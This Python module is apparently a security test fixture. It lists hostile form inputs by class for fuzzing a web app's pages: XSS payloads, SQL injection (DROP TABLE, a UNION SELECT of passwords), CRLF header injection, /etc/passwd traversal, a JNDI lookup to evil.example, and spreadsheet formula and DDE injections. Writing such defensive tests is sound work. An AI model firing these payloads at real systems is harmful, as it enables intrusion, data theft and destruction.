"""A fixed list of hostile strings, by class, and what each must never do to a page.

Every class is sent into every form the walk finds on every run; the CI sample rotates which string
of a class goes into which field (see ``tests/walk/test_hostile.py``), the full mode
(``SECURITY_FULL=1``) sends every string into every field.

A string with a ``needle`` is markup: the needle (text, or a compiled pattern) must never appear in an
HTML answer, because it would only be there if the string had been written out unescaped. Values are
``str`` or, for invalid UTF-8, ``bytes`` (sent percent-encoded as a browser would).
"""

from __future__ import annotations

import re
from dataclasses import dataclass


@dataclass(frozen=True)
class Hostile:
    kind: str
    value: str | bytes
    needle: str | re.Pattern | None = None

    def label(self) -> str:
        text = self.value.decode("latin-1") if isinstance(self.value, bytes) else self.value
        shown = text if len(text) <= 40 else f"{text[:20]}…({len(text):,} chars)"
        return f"{self.kind}:{shown!r}"

    def found_in(self, html: str) -> bool:
        if self.needle is None:
            return False
        if isinstance(self.needle, re.Pattern):
            return bool(self.needle.search(html))
        return self.needle in html


def _markup(value: str, needle: str | re.Pattern) -> Hostile:
    return Hostile("markup", value, needle)


JAVASCRIPT_URL = re.compile(r"""(href|src|action|formaction)\s*=\s*["']?\s*javascript:""", re.IGNORECASE)

HOSTILE: list[Hostile] = [
    # Markup and script: each carries a marker, so a finding names its string.
    _markup('<script>alert("kp-xss-1")</script>', '<script>alert("kp-xss-1")'),
    _markup('"><img src=x onerror=alert("kp-xss-2")>', '<img src=x onerror=alert("kp-xss-2")>'),
    _markup("'><svg onload=alert('kp-xss-3')>", "<svg onload=alert('kp-xss-3')>"),
    _markup('</textarea><script>alert("kp-xss-4")</script>', '<script>alert("kp-xss-4")'),
    _markup('</title></option></select><script>alert("kp-xss-5")</script>', '<script>alert("kp-xss-5")'),
    _markup("<a href=\"javascript:alert('kp-xss-6')\">klik</a>", "<a href=\"javascript:alert('kp-xss-6')\">"),
    _markup("javascript:alert('kp-xss-7')", JAVASCRIPT_URL),
    _markup('<iframe src="https://evil.example/kp-xss-8"></iframe>', '<iframe src="https://evil.example/kp-xss-8">'),
    _markup("<style>body{display:none}</style>kp-xss-9", "<style>body{display:none}</style>"),
    _markup("<div onmouseover=\"alert('kp-xss-10')\">x</div>", "<div onmouseover=\"alert('kp-xss-10')\">"),
    _markup('<<script>script>alert("kp-xss-11")<</script>/script>', "<script>script>"),
    _markup('&lt;script&gt;alert("kp-xss-12")&lt;/script&gt;', '<script>alert("kp-xss-12")'),
    _markup('<ScRiPt>alert("kp-xss-13")</sCrIpT>', '<ScRiPt>alert("kp-xss-13")'),
    _markup("{{ request.user.password }}{% debug %}kp-xss-14", re.compile(r"md5\$|pbkdf2_sha256\$|argon2\$")),
    _markup("\" autofocus onfocus=\"alert('kp-xss-15')", " onfocus=\"alert('kp-xss-15')"),
    # SQL-like
    Hostile("sql", "' OR '1'='1"),
    Hostile("sql", "'; DROP TABLE companies_company; --"),
    Hostile("sql", '" OR 1=1 --'),
    Hostile("sql", "1 UNION SELECT email, password FROM partnerships_user --"),
    Hostile("sql", "%' AND pg_sleep(3) --"),
    Hostile("sql", "\\'; --\\"),
    Hostile("sql", "%_%"),
    # NUL and other control characters
    Hostile("control", "abc\x00def"),
    Hostile("control", "\x00"),
    Hostile("control", "\x1b[31mrød\x1b[0m\x07\x08"),
    Hostile("control", "linje\r\nSet-Cookie: kp-injected=1"),
    Hostile("control", "\ufeffBOM"),
    Hostile("control", "\u200b\u200c\u200d"),
    # Right-to-left override and other bidirectional controls
    Hostile("rtl", "\u202eexe.fdp"),
    Hostile("rtl", "Firma \u2066\u202eSpA\u2069 ApS"),
    Hostile("rtl", "\u061c\u200f\u200e"),
    # Emoji and other characters outside the basic plane
    Hostile("emoji", "😀🎉💩"),
    Hostile("emoji", "👩‍👩‍👧‍👦🏳️‍🌈"),
    Hostile("emoji", "𝕂𝕠𝕞𝕡𝕖𝕥𝕖𝕟𝕔𝕖"),
    Hostile("emoji", "Z̸̛̤͔a̷l̶g̴o̵"),
    Hostile("emoji", "ǅ ß ﬁ İ ΐ"),
    # Length
    Hostile("long", "x" * 100_000),
    Hostile("long", "ø" * 20_000),
    Hostile("long", "\n" * 10_000),
    # Spreadsheet formulas (exports must neutralise them)
    Hostile("formula", "=1+1"),
    Hostile("formula", '=HYPERLINK("https://evil.example","klik")'),
    Hostile("formula", "+SUM(1,2)"),
    Hostile("formula", "-2+3+cmd|' /C calc'!A0"),
    Hostile("formula", "@SUM(1+1)*cmd|' /C calc'!A0"),
    Hostile("formula", "\t=1+1"),
    # Digits that are not ASCII (isdigit() says yes, int() may say no)
    Hostile("unicode digits", "²³"),
    Hostile("unicode digits", "٢٥١١٠٠"),
    Hostile("unicode digits", "１２３４５６７８"),
    Hostile("unicode digits", "߁߂߃"),
    Hostile("unicode digits", "Ⅻ"),
    Hostile("unicode digits", "১২৩"),
    # Impossible dates and times
    Hostile("date", "2025-02-30"),
    Hostile("date", "0000-00-00"),
    Hostile("date", "9999-12-31"),
    Hostile("date", "31-02-2025"),
    Hostile("date", "2025-13-45"),
    Hostile("date", "-0001-01-01"),
    Hostile("date", "10000-01-01"),
    Hostile("date", "25:61"),
    Hostile("date", "2025-02-29T24:00"),
    # Huge and strange numbers
    Hostile("number", "99999999999999999999999999"),
    Hostile("number", "-99999999999999999999999999"),
    Hostile("number", "1e309"),
    Hostile("number", "NaN"),
    Hostile("number", "Infinity"),
    Hostile("number", "9223372036854775808"),
    Hostile("number", "0,0000000000000000000000001"),
    Hostile("number", "1.234.567.890.123,45"),
    Hostile("number", "0x7fffffff"),
    Hostile("number", "-0"),
    # Empty and blank
    Hostile("blank", ""),
    Hostile("blank", "   \t "),
    # Paths, addresses and format strings
    Hostile("path", "../../../../etc/passwd"),
    Hostile("path", "//evil.example/%2e%2e/"),
    Hostile("path", "${jndi:ldap://evil.example/a}"),
    Hostile("path", "%s%s%s%n{0}{}"),
    # Bytes that are not UTF-8
    Hostile("bytes", b"\xff\xfe\xfd"),
    Hostile("bytes", b"abc\xc3\x28def"),
]

KINDS: list[str] = list(dict.fromkeys(h.kind for h in HOSTILE))


def of_kind(kind: str) -> list[Hostile]:
    return [h for h in HOSTILE if h.kind == kind]
